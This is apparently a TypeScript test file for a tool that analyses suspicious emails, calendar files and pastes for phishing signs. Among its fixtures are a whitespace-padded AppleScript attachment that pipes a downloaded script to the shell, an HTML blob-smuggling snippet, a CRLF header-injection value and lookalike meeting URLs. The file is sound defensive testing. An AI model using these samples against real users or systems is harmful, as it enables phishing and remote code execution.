import assert from 'node:assert/strict'
import { test } from 'node:test'
import { factAt } from '../../core/facts.ts'
import type { Finding } from '../../core/finding.ts'
import { messageFacts, type MessageFacts } from '../../measure/message/facts.ts'
import { measureMessage, type MessageContext } from '../../measure/message/measure.ts'
import { isMessage } from './intake.ts'
import { messageArtefacts } from './measure.ts'
import { parse } from './parsers/message.ts'
import { headerSafe, reporterReply } from './reply.ts'

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text)
const mail = (head: string[], body: string): Uint8Array => bytes([...head, 'MIME-Version: 1.0', '', body].join('\r\n'))

async function factsOf(
  content: Uint8Array | string,
  name = 'paste.txt',
  context: MessageContext = {},
): Promise<MessageFacts> {
  const { facts } = measureMessage(await parse(typeof content === 'string' ? bytes(content) : content, name), context)
  return messageFacts.parse(facts)
}

test("a meeting link that is not the product's is a broken claim; the product's own is kept", async () => {
  const lure = await factsOf('Join Zoom Meeting: https://us05web-zoom.example/j/88512349876?pwd=x')
  assert.deepEqual(
    lure.claims.map((claim) => [claim.brand, claim.met, claim.others]),
    [['zoom', false, ['us05web-zoom.example']]],
  )
  assert.deepEqual(lure.meetings, ['88512349876'])
  const honest = await factsOf('Join Zoom Meeting: https://us05web.zoom.us/j/88512349876?pwd=x')
  assert.deepEqual(
    honest.claims.map((claim) => [claim.brand, claim.met, claim.others]),
    [['zoom', true, []]],
  )
  const allowed = await factsOf('Zoom call: https://meet.acme.example/zoom', 'paste.txt', {
    allowed: new Set(['acme.example']),
  })
  assert.deepEqual(allowed.claims[0]?.others, [])
})

test('visible words are held against the target', async () => {
  const facts = await factsOf(
    mail(
      ['From: A <a@x.example>', 'Subject: call', 'Content-Type: text/html'],
      '<a href="https://evil.example/j/1">https://us05web.zoom.us/j/88512349876</a>',
    ),
    'a.eml',
  )
  assert.deepEqual(
    facts.links.filter((link) => link.from === 'href').map((link) => [link.host, link.shownElsewhere]),
    [['evil.example', true]],
  )
})

test('wrappers, defanged forms, odd numbers, userinfo and foreign letters are seen through', async () => {
  const one = async (text: string): Promise<MessageFacts['links'][number] | undefined> => (await factsOf(text)).links[0]
  assert.equal((await one('https://www.google.com/url?q=https%3A%2F%2Fevil.example%2Fa&sa=D'))?.host, 'evil.example')
  assert.equal((await one('hxxps://evil[.]example/a'))?.host, 'evil.example')
  assert.deepEqual(
    [(await one('http://0x7f.1/a'))?.host, (await one('http://0x7f.1/a'))?.oddNumeric],
    ['127.0.0.1', true],
  )
  assert.equal((await one('http://2130706433/'))?.oddNumeric, true)
  assert.deepEqual(
    [(await one('https://zoom.us@evil.example/j'))?.userinfo, (await one('https://zoom.us@evil.example/j'))?.host],
    [true, 'evil.example'],
  )
  assert.equal((await one('https://xn--80ak6aa92e.com/'))?.foreignLetters, true)
  assert.equal((await one('https://ev\u200bil.example/x'))?.host, 'evil.example')
})

test('calendar files, forwards and reports as attachment are read for what they carry', async () => {
  const ics = await factsOf(
    'BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Zoom intro\r\nLOCATION:https://zoom-call.exam\r\n ple/j/1\r\nEND:VEVENT\r\nEND:VCALENDAR',
    'a.ics',
  )
  assert.equal(ics.links[0]?.host, 'zoom-call.example')
  const forward = await factsOf(
    mail(
      ['From: Me <me@ours.example>', 'Subject: Fwd: hi'],
      'look\n---------- Forwarded message ---------\nFrom: Evil <e@evil.example>\nSubject: hi\n\njoin https://a.example/x',
    ),
    'f.eml',
  )
  assert.deepEqual([forward.headersLost, forward.sender?.domain, forward.subject], [true, 'evil.example', 'hi'])
  const inner = 'From: Evil <e@evil.example>\r\nSubject: inner\r\nMIME-Version: 1.0\r\n\r\ntext'
  const report = await parse(
    mail(
      ['From: Me <me@ours.example>', 'Subject: report', 'Content-Type: multipart/mixed; boundary=b'],
      `--b\r\n\r\nsee\r\n--b\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n${inner}\r\n--b--\r\n`,
    ),
    'r.eml',
  )
  assert.deepEqual(
    [report.subject, report.from?.address, report.reportedBy, report.headersLost],
    ['inner', 'e@evil.example', 'me@ours.example', false],
  )
})

test("only a trusted server's word on the sender counts", async () => {
  const content = mail(
    [
      'Authentication-Results: forged.example; dmarc=pass',
      'Authentication-Results: sallyport; dmarc=fail header.from=zoom.us',
      'From: Zoom <no-reply@zoom.us>',
      'Subject: x',
    ],
    'hi',
  )
  assert.equal((await factsOf(content, 'a.eml', { authservIds: ['sallyport'] })).sender?.dmarc, 'fail')
  assert.equal((await factsOf(content, 'a.eml')).sender?.dmarc, null)
})

test('attachments are known by their bytes', async () => {
  const attach = (name: string, content: Buffer): Uint8Array =>
    mail(
      ['From: A <a@x.example>', 'Subject: x', 'Content-Type: multipart/mixed; boundary=b'],
      `--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${content.toString('base64')}\r\n--b--`,
    )
  const lnk = (
    await factsOf(attach('plan.pdf.lnk', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')), 'a.eml')
  ).attachments[0]
  assert.deepEqual([lnk?.doubleEnding, lnk?.runnable], [true, true])
  assert.equal(
    (await factsOf(attach('cv.pdf', Buffer.from('MZ\u0090\u0000')), 'a.eml')).attachments[0]?.disguised,
    true,
  )
  assert.equal(
    (
      await factsOf(
        attach('a.html', Buffer.from('<html><script>var u=URL.createObjectURL(new Blob([atob("x")]))</script>')),
        'a.eml',
      )
    ).smuggles,
    true,
  )
  const padded = await factsOf(
    attach('fix.applescript', Buffer.from(`-- a${'\n'.repeat(3000)}do shell script "curl https://a.example | sh"`)),
    'a.eml',
  )
  assert.equal(padded.attachments[0]?.afterBlank, true)
  assert.ok(padded.commands.length > 0)
})

test('a broken picture, a bomb of links and nested mails are read within bounds', async () => {
  const broken = Buffer.from('89504e470d0a1a0a0000000d494844520000000800000008080600000000000000', 'hex')
  assert.equal((await parse(broken, 'screenshot.png')).form, 'image')
  const many = await parse(
    bytes(Array.from({ length: 30_000 }, (_, at) => `https://h${at}.example/a`).join('\n')),
    'paste.txt',
  )
  assert.deepEqual([many.links.length, many.linksCut], [400, true])
  let nested = 'From: a@a.example\r\nSubject: deep\r\n\r\nx'
  for (let at = 0; at < 50; at++)
    nested = `From: a@a.example\r\nSubject: ${at}\r\nContent-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\nContent-Type: message/rfc822\r\n\r\n${nested}\r\n--b${at}--`
  assert.equal((await parse(bytes(nested), 'a.eml')).form, 'eml')
  assert.equal((await parse(bytes('<div>'.repeat(20_000)), 'a.txt')).form, 'text')
  const started = performance.now()
  for (const hostile of [
    'a.'.repeat(60_000),
    `BEGIN:VCALENDAR\nA${';x="y"'.repeat(30_000)}`,
    '-a.'.repeat(30_000),
    ' is'.repeat(30_000),
  ])
    await factsOf(hostile)
  assert.ok(performance.now() - started < 20_000, 'time must not explode with hostile repetition')
})

test('artefacts tie by what the attacker chose, not by what everybody uses', async () => {
  const facts = await factsOf(
    'Zoom: https://us05web-zoom.example/j/88512349876 https://calendly.com/evil-fund/30min https://t.me/evil_bot https://github.com/evil/casino 0x52908400098527886E0F7030069857D2E4169EE7',
  )
  const found = new Set(messageArtefacts(facts).map((artefact) => `${artefact.type} ${artefact.value}`))
  for (const value of [
    'domain us05web-zoom.example',
    'meeting-id 88512349876',
    'scheduler-slug calendly.com/evil-fund',
    'handle telegram:evil_bot',
    'repository github.com/evil/casino',
    'wallet 0x52908400098527886e0f7030069857d2e4169ee7',
  ])
    assert.ok(found.has(value), value)
  assert.ok(!found.has('domain calendly.com'))
})

test('the reply names reasons, has no live link, cannot carry a header, and blames nobody', async () => {
  const facts = await factsOf('Join Zoom: https://us05web-zoom.example/j/1')
  const finding = {
    outcome: 'present',
    rule: 'messages/x',
    version: '',
    door: 'messages',
    group: 'message-claim',
    title: 'Says it is Zoom',
    sealed: false,
    privacy: 'none',
    decibans: 9,
    places: [{ in: 'text', start: 0, end: 1, text: 'https://evil.example/a\r\nBcc: x@y.example' }],
    innocent: [],
    clears: [],
    sources: [],
    verdict: 'hold',
  } as Finding
  const reply = reporterReply([finding], facts)
  assert.match(reply.text, /your own meeting link/)
  assert.doesNotMatch(reply.text, /https?:\/\//)
  assert.doesNotMatch(reply.text, /^Bcc:/m)
  assert.doesNotMatch(reply.text, /should have|careless|mistake|fault|failed/i)
  assert.doesNotMatch(headerSafe('a\r\nBcc: b'), /[\r\n]/)
  assert.match(reporterReply([], facts).text, /not a proof/)
})

test('the door takes mails and calendars, and leaves documents to others', () => {
  assert.equal(isMessage('a.eml', new Uint8Array()), true)
  assert.equal(isMessage('x', bytes('From: a\r\nTo: b\r\nSubject: c\r\n\r\n')), true)
  assert.equal(isMessage('cv.pdf', bytes('%PDF-1.7')), false)
  assert.equal(isMessage('notes.txt', bytes('hello')), false)
  assert.equal(factAt({ message: { form: 'eml' } }, 'message.form'), 'eml')
})
